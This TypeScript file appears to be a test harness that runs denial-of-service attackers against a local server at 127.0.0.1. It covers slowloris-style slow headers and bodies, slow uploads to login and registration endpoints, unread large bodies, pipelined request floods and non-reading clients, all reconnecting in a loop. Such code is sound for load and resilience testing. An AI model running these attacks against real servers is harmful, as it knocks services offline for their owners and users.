/**
 * Runs attackers in a process of their own: `attack.ts KIND PORT COUNT`. They continue until the
 * process is ended.
 */
import { connect, type Socket } from 'node:net'

/** The time, in milliseconds, after which an attacker reconnects. */
const BACK_AFTER_MS = 3_000
/**
 * The time after which attackers who do not read reconnect, since they do not notice a closed
 * connection.
 */
const HOLDS_MS = 10_000
const BYTE_EVERY_MS = 1_000
/** The attackers' own address, so that visitors are not counted together with them. */
const FROM = '127.0.0.2'

const request = (...lines: readonly string[]) => `${[...lines, 'host: site.test'].join('\r\n')}\r\n`

/** The kinds of attack, each on an open connection. */
const attacks: Readonly<Record<string, (socket: Socket) => void>> = {
  'unread-bodies': (socket) => {
    socket.resume()
    socket.write(
      `${request('POST / HTTP/1.1', 'content-type: text/plain', 'content-length: 500000')}\r\n`,
    )
    socket.write(Buffer.alloc(500_000))
  },
  'unread-answers': (socket) => {
    hold(socket)
    socket.write(`${request('GET / HTTP/1.1')}\r\n`.repeat(2000))
  },
  'slow-bodies': (socket) => {
    socket.resume()
    const type = 'content-type: application/json'
    socket.write(`${request('POST /api/auth/login HTTP/1.1', type, 'content-length: 100000')}\r\n`)
    drip(socket, ' ')
  },
  'slow-uploads': (socket) => {
    socket.resume()
    const type = 'content-type: multipart/form-data; boundary=x'
    const post = 'POST /api/auth/performers/register HTTP/1.1'
    socket.write(`${request(post, type, 'content-length: 50000000')}\r\n`)
    drip(socket, '-')
  },
  'slow-headers': (socket) => {
    socket.resume()
    socket.write(request('GET / HTTP/1.1'))
    drip(socket, 'x-more: 1\r\n')
  },
  'slow-readers': (socket) => {
    hold(socket)
    socket.write(`${request('GET / HTTP/1.1', 'cookie: token=nobody')}\r\n`)
  },
}

/** Reads nothing. */
function hold(socket: Socket): void {
  socket.pause()
  setTimeout(() => socket.destroy(), HOLDS_MS)
}

function drip(socket: Socket, text: string): void {
  const dripping = setInterval(() => socket.write(text), BYTE_EVERY_MS)
  socket.once('close', () => clearInterval(dripping))
}

function attackRepeatedly(attack: (socket: Socket) => void, port: number): void {
  const socket = connect({ port, host: '127.0.0.1', localAddress: FROM })
  socket.on('error', () => undefined)
  socket.once('connect', () => attack(socket))
  socket.once('end', () => socket.destroy())
  socket.once('close', () => setTimeout(() => attackRepeatedly(attack, port), BACK_AFTER_MS))
}

const [kind = '', port = '', count = ''] = process.argv.slice(2)
const attack = attacks[kind]
if (!attack) {
  console.log(Object.keys(attacks).join('\n'))
} else {
  for (let at = 0; at < Number(count); at += 1)
    setTimeout(() => attackRepeatedly(attack, Number(port)), at * 5)
}
